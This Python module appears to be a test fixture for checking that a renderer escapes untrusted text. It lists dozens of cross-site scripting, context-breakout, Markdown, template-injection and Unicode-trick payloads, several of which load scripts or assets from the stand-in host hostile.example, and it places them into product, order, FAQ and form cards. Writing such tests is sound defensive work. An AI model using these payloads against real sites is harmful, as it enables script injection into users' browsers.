"""Texts that want to be more than text, and cards, names and addresses made of them. Each carries MARK."""

from typing import Any

Json = dict[str, Any]
MARK = "hostile"  # window.hostile is set, or hostile.example asked, when one of them comes alive
HANDLER = "window.hostile=1"
ELSEWHERE = "https://hostile.example"
IMAGE = f"<img src=x onerror={HANDLER}>"
SCRIPT = f"<script>{HANDLER};alert(1)</script>"

TABLE: dict[str, str] = {
    # markup
    "script": SCRIPT,
    "script_elsewhere": f'<script src="{ELSEWHERE}/x.js"></script>',
    "script_within_script": f"<scr<script>ipt>{HANDLER}</scr</script>ipt>",
    "script_in_capitals": f"<ScRiPt\t>{HANDLER}</sCrIpT\n>",
    "image_error": IMAGE,
    "image_error_slash": f"<img/src/onerror={HANDLER}>",
    "image_elsewhere": f'<img src="{ELSEWHERE}/p.gif">',
    "svg_load": f"<svg onload={HANDLER}>",
    "svg_animate": f"<svg><animate onbegin={HANDLER} attributeName=x dur=1s></svg>",
    "svg_script": f"<svg><script>{HANDLER}</script></svg>",
    "svg_link": f'<svg><a xlink:href="javascript:{HANDLER}"><text y="9">x</text></a></svg>',
    "mathml": f"<math><mtext><table><mglyph><style><!--</style>{IMAGE}",
    "details": f"<details open ontoggle={HANDLER}>",
    "autofocus": f"<input autofocus onfocus={HANDLER}>",
    "body": f"<body onload={HANDLER}>",
    "marquee": f"<marquee onstart={HANDLER}>",
    "video": f"<video><source onerror={HANDLER}></video>",
    "iframe": f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    "iframe_script": f'<iframe src="javascript:parent.{MARK}=1"></iframe>',
    "object": f'<object data="data:text/html,<script>top.{MARK}=1</script>"></object>',
    "embed": f'<embed src="{ELSEWHERE}/x.swf">',
    "base": f'<base href="{ELSEWHERE}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    "stylesheet": f'<link rel=stylesheet href="{ELSEWHERE}/x.css">',
    "style": f"<style>*{{background:url({ELSEWHERE}/c)}}</style>",
    "form": f'<form action="{ELSEWHERE}/"><button formaction="javascript:{HANDLER}">x</button></form>',
    # ways out of where a text stands
    "end_of_script": f"</script>{SCRIPT}",
    "comment_in_script": f"<!--<script>{HANDLER}//-->",
    "end_of_title": f"</title>{SCRIPT}",
    "end_of_textarea": f"</textarea>{SCRIPT}",
    "end_of_style": f"</style>{SCRIPT}",
    "end_of_template": f"</template>{IMAGE}",
    "end_of_option": f"</option></select>{IMAGE}",
    "end_of_comment": f"-->{SCRIPT}<!--",
    "end_of_cdata": f"]]>{SCRIPT}",
    "end_of_attribute": f'">{IMAGE}',
    "end_of_single_quotes": f"'>{IMAGE}",
    "attribute": f'" autofocus onfocus="{HANDLER}" x="',
    "attribute_single_quotes": f"' autofocus onfocus='{HANDLER}' x='",
    "attribute_backtick": f"` onmouseover={HANDLER} x=`",
    "json": f'"}};{HANDLER};//',
    "json_single_quotes": f"'-({HANDLER})-'",
    "json_backslash": f'\\";{HANDLER};//',
    "line_separators": f"\u2028{HANDLER};\u2029{HANDLER}//\u2028.",
    "css": f"red;background:url({ELSEWHERE}/c);x:expression({HANDLER})",
    # addresses
    "javascript": f"javascript:{HANDLER}",
    "javascript_in_capitals": f"JaVaScRiPt:{HANDLER}",
    "javascript_split": f"java\tscript:{HANDLER}",
    "javascript_comment": f"javascript://a.example/%0a{HANDLER}",
    "vbscript": f"vbscript:{MARK}",
    "data": f"data:text/html,<script>top.{MARK}=1</script>",
    "data_svg": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.{MARK}=1'/>",
    "address_with_markup": f"https://a.example/<script>{HANDLER}</script>",
    "address_with_quote": f'https://a.example/"onmouseover="{HANDLER}',
    "address_with_password": f"https://a.example@hostile.example/{MARK}",
    "address_without_scheme": "//hostile.example/x.js",
    # Markdown
    "markdown_javascript": f"[click](javascript:{HANDLER})",
    "markdown_javascript_in_capitals": f"[click](JAVASCRIPT:{HANDLER})",
    "markdown_entity": f"[click](&#106;avascript:{HANDLER})",
    "markdown_data": f"[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={MARK})",
    "markdown_quote": f'[click](https://a.example/"onmouseover="{HANDLER})',
    "markdown_title": f"[click](https://a.example/ \"{MARK}\" onclick={HANDLER})",
    "markdown_nested": f"[a [b](javascript:{HANDLER})](https://a.example/)",
    "markdown_label": f"[{IMAGE}](https://a.example/)",
    "markdown_autolink": f"<javascript:{HANDLER}>",
    "markdown_image": f"![x]({ELSEWHERE}/p.gif)",
    "markdown_image_attribute": f'![x" onerror="{HANDLER}](x)',
    "markdown_reference": f"[x][1]\n\n[1]: javascript:{HANDLER}",
    "markdown_fence": f"```html\n{IMAGE}\n```",
    "markdown_fence_open": f"```\n</code></pre>{SCRIPT}",
    "markdown_code": f"`{IMAGE}`",
    "markdown_bold": f"**{IMAGE}** *{SCRIPT}*",
    "markdown_table": f"| {IMAGE} | b |\n|---|---|\n| [x](javascript:{HANDLER}) | {SCRIPT} |",
    "markdown_heading": f"# {IMAGE}\n- {SCRIPT}\n1. <svg onload={HANDLER}>",
    "markdown_citation": f"[1] [99](javascript:{HANDLER}) [1](data:{MARK})",
    # templates
    "django": f"{{{{ 7|add:35 }}}}{{% debug %}}{{% load static %}}{{# {MARK} #}}{{% include '{MARK}' %}}",
    "vue": f"{{{{constructor.constructor('{HANDLER}')()}}}}",
    "angular": f"{{{{$on.constructor('{HANDLER}')()}}}}",
    "alpine": f'<div x-data x-init="{HANDLER}" @click="{HANDLER}" :x="{HANDLER}"></div>',
    "htmx": f'<div hx-get="{ELSEWHERE}/" hx-trigger="load"></div>',
    "template_literal": f"${{{HANDLER}}} `${{{MARK}}}`",
    "placeholders": f"%(name)s %s {{name}} {{0}} {{}} %% $1 $& {MARK}",
    # letters
    "entities": f"&lt;script&gt;{HANDLER}&lt;/script&gt; &amp;lt; &#60;img&#62;",
    "bidi": f"invoice\u202egnp.exe \u2066{MARK}\u2067 \u202a\u202d",
    "invisible": f"<\u200bscript>{HANDLER}<\u00ad/script>\ufeff.",
    "full_width": f"＜script＞{HANDLER}＜/script＞",
    "stacked": "Z" + "\u0335" * 60 + MARK,
    "surrogates": f"\U0001f468\u200d\U0001f469\u200d\U0001f467 {MARK} \U0010ffff",
    "object_names": f"__proto__ constructor toString {MARK}",
}  # fmt: skip
EVERYTHING = "\n\n".join(TABLE.values())


def one_line(text: str, limit: int = 10_000) -> str:
    return " ".join(text.split())[:limit]


def hostile_cards(text: str) -> list[Json]:
    """Each kind with the text wherever a text may stand."""
    line = one_line(text)
    title, price, label = line[:200], line[:40], line[:80]
    address = f"https://a.example/?{MARK}=%22onmouseover=%22"
    item = {"title": title, "price": price, "quantity": 1, "image_url": f"{ELSEWHERE}/p.gif"}
    field = {"name": "a", "label": label, "kind": "select", "options": [line[:100]], "error": line[:120]}
    return [
        {
            "kind": "product",
            "title": title,
            "text": line[:1000],
            "price": price,
            "url": address,
            "image_url": f"{ELSEWHERE}/p.gif",
            "buttons": [{"label": label[:40], "url": address}, {"label": label[:40], "reply": title}],
        },
        {
            "kind": "order",
            "number": label,
            "status": label,
            "total": price,
            "items": [item],
            "steps": [{"label": label, "at": price, "done": True}],
        },
        {"kind": "faq", "title": title, "questions": [title]},
        {"kind": "form", "title": title, "submit": price, "fields": [field]},
    ]
